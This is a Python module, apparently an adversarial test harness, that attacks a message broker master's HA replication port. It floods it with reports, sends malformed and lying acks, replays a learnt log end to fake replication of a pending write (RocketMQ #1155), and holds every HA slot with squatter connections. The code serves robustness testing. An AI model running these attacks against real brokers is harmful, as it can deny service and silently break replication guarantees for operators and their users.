"""The attacker that connects to a master's HA port and plays a slave that lies: a flood of
reports (``ha_report_flood``), garbage, torn reports, acks beyond the log or backwards
(``rogue_slave``), a request beyond the log (``ask_beyond_the_log``), the log end presented
on a fresh connection to make a waiting put count as replicated (``present_log_end``,
RocketMQ #1155), and squatters that hold every HA slot (``ha_slot_squatters``).

Why together: each speaks the slave's side of the HA protocol (8-byte reports up, frames
down) against the one listener of a master that decides what a SYNC_MASTER put waits for;
they share how a slave learns the master's log end and how it drains the frames it is sent.
The other side, a rogue master for a slave, is ``rogue_master``.
"""

from __future__ import annotations

import math
import random

import attrs
import trio

from ...wire.ha import FRAME_HEADER, REPORT
from ._common import (
    AttackOutcome,
    NodeAnswer,
    Tally,
    close_quietly,
    connect_raw,
    read_until_closed,
    receive_exactly,
    send_until_closed,
)

__all__ = [
    "FRAME", "PresentedEnd", "ask_beyond_the_log", "ha_report_flood", "ha_slot_squatters",
    "open_ha_peer", "present_log_end", "rogue_slave", "stream_reports",
]

FRAME = FRAME_HEADER


async def ask_beyond_the_log(ha_address: str, *, timeout: float = 5.0) -> NodeAnswer:
    """Ask a master for bytes far beyond its log. It refuses (a heartbeat, then the close);
    the refusal must not tell where its log ends (it used to)."""
    stream = await connect_raw(ha_address)
    async with stream:
        await send_until_closed(stream, REPORT.pack(2**62))
        return await read_until_closed(stream, timeout)


@attrs.frozen
class PresentedEnd:
    """What a master answered a peer that presented a log end it learnt."""

    #: the first frame's header (offset, size) when the peer asked for the last byte first
    first_frame: tuple[int, int] | None
    #: body bytes of that frame that arrived
    body_received: int
    #: reports that went out before the master closed the connection (if it did)
    reports_sent: int


async def present_log_end(ha_address: str, end: int, *, from_just_below: bool, acks: int = 3,
                          pause: float = 0.05, timeout: float = 5.0) -> PresentedEnd:
    """A rogue that knows a master's log end ``end`` (a waiting put's record ends there)
    presents it on a fresh connection, to make that put count as replicated: either it
    reports ``end`` as its request and again as acks, or it asks for the last byte, receives
    it, and acks ``end``. A master must count neither (RocketMQ #1155)."""
    stream = await connect_raw(ha_address)
    first_frame = None
    body = b""
    sent = 0
    async with stream:
        if from_just_below:
            if await send_until_closed(stream, REPORT.pack(end - 1)):
                sent += 1
                header = await receive_exactly(stream, FRAME.size, timeout)
                if len(header) == FRAME.size:
                    first_frame = FRAME.unpack(header)
                    body = await receive_exactly(stream, max(0, min(first_frame[1], 1 << 20)),
                                                 timeout)
        elif await send_until_closed(stream, REPORT.pack(end)):
            sent += 1
        for _ in range(acks):
            if not await send_until_closed(stream, REPORT.pack(end)):
                break
            sent += 1
            await trio.sleep(pause)
    return PresentedEnd(first_frame, len(body), sent)


async def open_ha_peer(ha_address: str, first_report: int, *,
                       receive_buffer: int | None = None) -> trio.SocketStream:
    """A connection to a master's HA port that has sent its first report (its request)."""
    stream = await connect_raw(ha_address, receive_buffer=receive_buffer)
    if not await send_until_closed(stream, REPORT.pack(first_report)):
        await close_quietly(stream)
        raise trio.BrokenResourceError("the master closed the connection at once")
    return stream


async def stream_reports(stream: trio.SocketStream, offset: int, *, reports: int,
                         block: int = 8192, deadline: float = math.inf) -> int:
    """Stream ``reports`` reports of ``offset`` as fast as the socket takes them, ``block``
    per write, until ``deadline``; returns how many went out before the master closed the
    connection (or the deadline passed)."""
    chunk = REPORT.pack(offset) * block
    sent = 0
    await trio.lowlevel.checkpoint()
    while sent < reports and trio.current_time() < deadline:
        n = min(block, reports - sent)
        if not await send_until_closed(stream, chunk if n == block else chunk[:n * REPORT.size]):
            break
        sent += n
    return sent


async def _drain(stream: trio.SocketStream, limit: int, tally: Tally | None = None) -> bool:
    """Read and drop up to ``limit`` bytes the master sends; True if it closed."""
    received = 0
    await trio.lowlevel.checkpoint()
    try:
        while received < limit:
            data = await stream.receive_some(65536)
            if not data:
                return True
            received += len(data)
            if tally is not None:
                tally.answers["bytes received"] += len(data)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        return True
    return False


async def ha_report_flood(ha_address: str, *, reports: int = 131_072, seconds: float = 10.0
                          ) -> AttackOutcome:
    """One connection that asks for the log from 0 (reading and dropping what comes) and
    streams ``reports`` acks of 0, as fast as the master takes them, for at most ``seconds``:
    the master must decode at most one report per read and keep replicating to its real
    slaves. ``frames_sent`` counts the reports that went out."""
    tally = Tally("HA report flood", ha_address)
    deadline = trio.current_time() + seconds
    stream = None
    with trio.move_on_at(deadline):
        try:
            stream = await open_ha_peer(ha_address, 0)
        except (OSError, trio.BrokenResourceError):
            tally.refused += 1
    if stream is None:
        return tally.outcome()
    tally.connections += 1
    tally.frames_sent += 1
    try:
        async with trio.open_nursery() as nursery:
            async def drain() -> None:
                if await _drain(stream, 1 << 40, tally):
                    tally.closed_by_node += 1

            nursery.start_soon(drain)
            with trio.move_on_at(deadline + 1):  # a send the master never takes ends too
                sent = await stream_reports(stream, 0, reports=reports, deadline=deadline)
                tally.frames_sent += sent
                tally.bytes_sent += (sent + 1) * REPORT.size
            nursery.cancel_scope.cancel()
    finally:
        await close_quietly(stream)
    return tally.outcome()


#: a frame shorter than this means the master had no more to send (it fills a frame up to
#: haTransferBatchSize: 1 MiB here, 32 KiB in RocketMQ)
_SHORT_FRAME = 16 * 1024


async def _learn_the_end(ha_address: str, *, timeout: float, limit: int) -> int | None:
    """A recent end of the master's log, learnt as a slave does: ask from 0 and read frames
    until one says the master has sent all it had (a heartbeat, or a short frame), or
    ``timeout`` or ``limit`` bytes. The end of the last frame read (the log may have grown
    since: the result is a log end the master had, never beyond its log); None if no frame
    came."""
    stream = await open_ha_peer(ha_address, 0)
    end = None
    received = 0
    async with stream:
        with trio.move_on_after(timeout):
            while received <= limit:
                header = await receive_exactly(stream, FRAME.size, timeout)
                if len(header) < FRAME.size:
                    break
                offset, size = FRAME.unpack(header)
                if size == 0:
                    return offset
                body = await receive_exactly(stream, size, timeout)
                if len(body) < size:
                    break
                received += size
                end = offset + size
                if size < _SHORT_FRAME:
                    break
    return end


async def rogue_slave(ha_address: str, *, seconds: float = 15.0, seed: int = 0,
                      log_limit: int = 64 * 1024 * 1024) -> AttackOutcome:
    """Peers that lie to a master, each on its own connection: garbage (a negative offset, an
    HTTP request, random bytes), a torn report, a request far beyond the log, acks beyond
    the log and backwards, and the log end presented on a fresh connection (RocketMQ #1155).
    ``answers`` counts what each got: ``closed`` (the master dropped it), ``heartbeat``
    (a refusal), ``open`` (still connected when the attack gave up on it)."""
    tally = Tally("rogue HA slave", ha_address)
    rng = random.Random(seed)
    per_peer = 3.0
    deadline = trio.current_time() + seconds

    async def peer(name: str, data: bytes, *, then_close: bool = False) -> None:
        await trio.lowlevel.checkpoint()
        if trio.current_time() >= deadline:
            return
        stream = await tally.connect(ha_address)
        if stream is None:
            return
        async with stream:
            if await send_until_closed(stream, data):
                tally.frames_sent += 1
                tally.bytes_sent += len(data)
            if then_close:
                tally.answers[f"{name}: left"] += 1
                return
            answer = await read_until_closed(stream, min(per_peer, deadline - trio.current_time()))
            if answer.closed:
                tally.closed_by_node += 1
            kind = "closed" if answer.closed else "open"
            if len(answer.data) >= FRAME.size and FRAME.unpack_from(answer.data)[1] == 0:
                kind = f"heartbeat, {kind}"
            tally.answers[f"{name}: {kind}"] += 1

    await peer("negative offset", b"\xff" * 64)
    await peer("http", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    await peer("random", rng.randbytes(4096))
    await peer("torn report", REPORT.pack(0)[:3], then_close=True)
    await peer("beyond the log", REPORT.pack(2**62))
    with trio.move_on_at(deadline):
        end = await _learn_the_end(ha_address, timeout=per_peer, limit=log_limit)
        tally.connections += 1
        if end is None:
            tally.note = "could not learn the log end"
            return tally.outcome()
        # acks: one beyond what the master has, one that goes backwards
        await peer("ack beyond the log", REPORT.pack(end) + REPORT.pack(end + 2**40))
        if end > 0:
            await peer("ack backwards", REPORT.pack(end) + REPORT.pack(end) +
                       REPORT.pack(end - 1))
        presented = await present_log_end(ha_address, end, from_just_below=end > 0)
        tally.connections += 1
        tally.frames_sent += presented.reports_sent
        tally.answers["log end presented: reports sent"] += presented.reports_sent
    return tally.outcome()


async def _squat(stream: trio.SocketStream, end: int, interval: float, tally: Tally) -> bool:
    """Hold one HA slot: ask for ``end``, then say ``end`` again every ``interval``, reading
    and dropping what the master sends; True when the master closed the connection."""
    closed = False
    async with trio.open_nursery() as nursery:
        async def drain() -> None:
            nonlocal closed
            closed = await _drain(stream, 1 << 40, tally)
            nursery.cancel_scope.cancel()

        nursery.start_soon(drain)
        for _ in range(1_000_000):  # bounded: the caller's deadline ends it first
            if not await send_until_closed(stream, REPORT.pack(end)):
                closed = True
                break
            tally.frames_sent += 1
            tally.bytes_sent += REPORT.size
            await trio.sleep(interval)
        nursery.cancel_scope.cancel()
    return closed


async def ha_slot_squatters(ha_address: str, *, peers: int = 16, seconds: float = 10.0,
                            interval: float = 0.2, end: int | None = None) -> AttackOutcome:
    """``peers`` connections that each ask for the master's log end (learnt as a slave learns
    it, unless given) and restate it every ``interval``, acknowledging none of the bytes
    they are sent; one the master closes comes back ``interval`` later, until ``seconds``.
    Without haAuthSecret, 16 of them used to hold every HA slot (haMaxConnections) for as
    long as they stayed, and the real slave was refused: a master must let a slave in and
    keep it. ``closed_by_node`` counts the squatters the master closed (evicted, or turned
    away with every slot held by a proven slave)."""
    tally = Tally("HA slot squatters", ha_address)
    deadline = trio.current_time() + seconds

    async def squatter() -> None:
        assert end is not None
        for _ in range(100_000):  # bounded: the deadline ends it first
            stream = await tally.connect(ha_address)
            if stream is not None:
                async with stream:
                    if await _squat(stream, end, interval, tally):
                        tally.closed_by_node += 1
            await trio.sleep(interval)

    with trio.move_on_at(deadline):
        if end is None:
            end = await _learn_the_end(ha_address, timeout=min(5.0, seconds), limit=64 << 20)
            tally.connections += 1
            if end is None:
                tally.note = "could not learn the log end"
                return tally.outcome()
        async with trio.open_nursery() as nursery:
            for _ in range(peers):
                nursery.start_soon(squatter)
    return tally.outcome()
